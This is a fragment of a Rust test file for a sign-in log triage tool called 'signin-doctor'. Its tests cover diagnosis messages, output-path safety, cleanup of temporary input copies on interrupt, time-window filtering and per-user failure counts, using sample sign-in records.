    let none = dir.path().join("none.json");
    std::fs::write(&none, row.to_string()).unwrap();
    for (file, says) in [(&empty, "the records' step details are empty"), (&none, "the Log Analytics rows carry no step details")] {
        let (code, out, err) = run_in(&root(), &["diagnose", "--signin", file.to_str().unwrap(), "--format", "json"]);
        assert!(code == 0 || code == 3, "{err}");
        assert!(out.contains(says), "{says}: {out}");
        assert!(!out.contains("Graph v1.0"), "{out}");
    }
}

#[test]
fn an_output_inside_a_walked_log_directory_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("container");
    std::fs::create_dir_all(&logs).unwrap();
    std::fs::copy(root().join("examples/stale-authenticator/signin.json"), logs.join("PT1H.json")).unwrap();
    let (code, out, err) = run_in(dir.path(), &["triage", "--signins", "container", "--format", "json", "-o", "container/results.jsonl"]);
    assert_eq!(code, 7, "{out}");
    assert!(err.contains("inside container") && err.contains("next run would read it"), "{err}");
    assert!(!logs.join("results.jsonl").exists());
    // A page is not read as a log: the report may go there.
    let (code, _, err) = run_in(dir.path(), &["triage", "--signins", "container", "--report", "container/report.html"]);
    assert_eq!(code, 0, "{err}");
}

#[cfg(unix)]
#[test]
fn ctrl_c_removes_the_temporary_copy_of_standard_input() {
    use std::io::Write;
    let tmp = tempfile::tempdir().unwrap();
    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("signin-doctor"))
        .args(["triage", "--signins", "-"])
        .env("TMPDIR", tmp.path())
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let record = std::fs::read_to_string(root().join("examples/stale-authenticator/signin.json")).unwrap();
    stdin.write_all(record.as_bytes()).unwrap();
    stdin.flush().unwrap();
    let copies = || std::fs::read_dir(tmp.path()).unwrap().filter_map(|e| e.ok()).filter(|e| e.file_name().to_string_lossy().starts_with(".signin-doctor-input-")).count();
    for _ in 0..200 {
        if copies() > 0 {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    assert_eq!(copies(), 1, "the copy is being written while standard input stays open");
    let st = std::process::Command::new("kill").args(["-INT", &child.id().to_string()]).status().unwrap();
    assert!(st.success());
    let out = child.wait_with_output().unwrap();
    drop(stdin);
    assert_eq!(out.status.code(), Some(130), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stderr).contains("temporary copies of logs and unfinished output files were removed"));
    assert_eq!(copies(), 0, "no personal data left behind in TMPDIR");
}

fn write_lines(path: &Path, recs: &[serde_json::Value]) {
    std::fs::write(path, recs.iter().map(|r| r.to_string() + "\n").collect::<String>()).unwrap();
}

#[test]
fn a_time_window_keeps_the_history_before_it() {
    // Three successes from one address, then a lockout from the same
    // address: a window that starts after the successes must not make the
    // address unknown (and the lockout an attack).
    let dir = tempfile::tempdir().unwrap();
    let mut recs: Vec<serde_json::Value> = (15..18)
        .map(|d| serde_json::json!({"id": format!("ok-{d}"), "createdDateTime": format!("2026-11-{d}T09:00:00Z"), "userPrincipalName": "alex@contoso.com", "userId": "u1", "correlationId": format!("c-{d}"), "ipAddress": "198.51.100.9", "location": {"countryOrRegion": "GB"}, "status": {"errorCode": 0}, "isInteractive": true}))
        .collect();
    recs.push(serde_json::json!({"id": "lock", "createdDateTime": "2026-11-20T09:00:00Z", "userPrincipalName": "alex@contoso.com", "userId": "u1", "correlationId": "c-lock", "ipAddress": "198.51.100.9", "location": {"countryOrRegion": "GB"}, "status": {"errorCode": 50053}, "isInteractive": true}));
    let log = dir.path().join("lock.jsonl");
    write_lines(&log, &recs);
    let args = ["triage", "--signins", log.to_str().unwrap(), "--org", "examples/org.ron", "--format", "json", "--fail-on", "compromise"];
    let (code_all, all, _) = run_in(&root(), &args);
    let (code_win, win, err) = run_in(&root(), &[&args[..], &["--since", "2026-11-19"]].concat());
    let (all, win) = (jsonl(&all), jsonl(&win));
    assert_eq!(win.len(), 1, "{err}");
    assert_eq!(win[0]["diagnosis"], all[0]["diagnosis"], "the same diagnosis with the window as without");
    assert_eq!(code_win, code_all);
    assert_ne!(win[0]["diagnosis"]["severity"], "critical");
}

#[test]
fn counts_agree_under_a_filter_and_interrupts_stay_out_of_failures() {
    let dir = tempfile::tempdir().unwrap();
    let mut recs = Vec::new();
    for u in ["alex", "sam"] {
        recs.push(serde_json::json!({"id": format!("{u}-kmsi"), "createdDateTime": "2026-11-20T09:00:00Z", "userPrincipalName": format!("{u}@contoso.com"), "correlationId": format!("{u}-1"), "status": {"errorCode": 50140, "failureReason": "This error occurred due to 'Keep me signed in' interrupt when the user was signing in."}, "isInteractive": true}));
        recs.push(serde_json::json!({"id": format!("{u}-pw"), "createdDateTime": "2026-11-20T10:00:00Z", "userPrincipalName": format!("{u}@contoso.com"), "correlationId": format!("{u}-2"), "status": {"errorCode": 50126}, "isInteractive": true, "appDisplayName": "Bad\u{1b}[31mApp"}));
    }
    let log = dir.path().join("a.jsonl");
    write_lines(&log, &recs);
    let l = log.to_str().unwrap();
    let (_, out, _) = run_in(&root(), &["triage", "--signins", l]);
    assert!(out.contains("4 attempts, 2 failed; 2 more ended at an expected step"), "{out}");
    assert!(out.contains("Users most affected:\n         1  alex@contoso.com\n         1  sam@contoso.com\n"), "interrupts are not failures of a user: {out}");
    let (_, out, _) = run_in(&root(), &["triage", "--signins", l, "--user", "alex@contoso.com"]);
    assert!(out.contains("4 attempts, 4 without a success"), "{out}");
    assert!(out.contains("of the 4 attempts without a success, 2 selected: 1 failed; 1 more ended at an expected step"), "{out}");
    // The drill-down written to a file keeps no terminal escape from the log.
    let file = dir.path().join("out.txt");
    let (code, _, _) = run_in(&root(), &["triage", "--signins", l, "--user", "alex@contoso.com", "-o", file.to_str().unwrap()]);
    assert_eq!(code, 0);
    let text = std::fs::read_to_string(&file).unwrap();
    assert!(text.contains("Failed attempts of alex@contoso.com") && !text.contains('\u{1b}'), "{text}");
    // A window the records miss is said so, even beside a bad record.
    let mut bad = std::fs::read_to_string(&log).unwrap();
    bad.push_str("{\"foo\": 1}\n");
    std::fs::write(&log, bad).unwrap();
    let (code, _, err) = run_in(&root(), &["triage", "--signins", l, "--since", "2026-12-01"]);
    assert_eq!(code, 4);
    assert!(err.contains("none of the 4 sign-in records lies in the time window") && err.contains("2026-11-20 09:00:00 UTC"), "{err}");
}
